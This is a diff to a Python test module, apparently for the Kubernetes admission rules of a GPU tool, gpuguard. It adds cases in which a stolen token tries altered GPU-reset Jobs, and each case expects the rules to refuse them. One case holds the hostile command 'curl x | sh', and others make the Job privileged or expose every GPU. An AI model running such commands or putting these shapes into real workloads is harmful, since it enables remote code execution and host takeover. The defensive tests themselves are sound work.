@@ -5,7 +5,7 @@ what the token can still not do."""
 
 from __future__ import annotations
 
-from tests import admission
+from tests import admission, chart
 from tests.hostile import objects as o
 from tests.hostile.model import Case
 
@@ -71,6 +71,25 @@ def _stolen(name: str, tries: str, refused: dict[str, list[str]], obj: o.Obj | N
 
 SCOPE = "gpuguard-node-scope"
 N = o.node()
+def _reset_c(job: o.Obj) -> o.Obj:
+    container: o.Obj = job["spec"]["template"]["spec"]["containers"][0]
+    return container
+
+
+GPU_RESETS: list[tuple[str, str, list[str], o.Change]] = [
+    ("on-another-node", "the CAP_SYS_ADMIN reset Job pinned to a node whose card is in use",
+     ["node"], lambda j: j["spec"]["template"]["spec"].update(nodeName="gpu-node-c")),
+    ("with-a-shell", "the reset Job's account and capability running a shell",
+     ["command", "env", "capabilities", "security-context"],
+     lambda j: _reset_c(j).update(command=["sh", "-c", "nvidia-smi -r; curl x | sh"])),
+    ("of-every-card", "`nvidia-smi -r` with every GPU of the node visible",
+     ["env"], lambda j: _reset_c(j)["env"][0].update(value="all")),
+    ("privileged", "the reset Job privileged (every host device)",
+     ["privileges"], lambda j: _reset_c(j)["securityContext"].update(privileged=True)),
+]
+"""The GPU-reset Job (CAP_SYS_ADMIN, docs/security.md#the-gpu-reset-job) in another shape,
+created with gpuguard's own token: with remediation.gpu_reset_pools on, refused all the same."""
+
 STOLEN_TOKEN = [
     _stolen("taints-a-node", "NoSchedule taint steers tenants elsewhere",
             {SCOPE: ["node-scope-spec"]}, o.changed(N, o.spec(taints=[
@@ -137,6 +156,9 @@ STOLEN_TOKEN = [
     _stolen("lifts-a-vendors-taint", "deletes another tool's DeviceTaintRule",
             {"gpuguard-dra-taints": ["dra-taint-own-rules"]}, None, operation="DELETE",
             old=o.taint_rule("vendor-maintenance", key="vendor.example/maint")),
+    *(Case(STOLEN, f"gpu-reset-{name}", tries, o.changed(admission.gpu_reset(), change),
+           o.GPUGUARD, {"gpuguard-jobs": rules}, extra=o.POD_TOKEN,
+           values=chart.with_gpu_reset()) for name, tries, rules, change in GPU_RESETS),
 ]
 
 CASES = [*IMPERSONATED, *STOLEN_TOKEN]
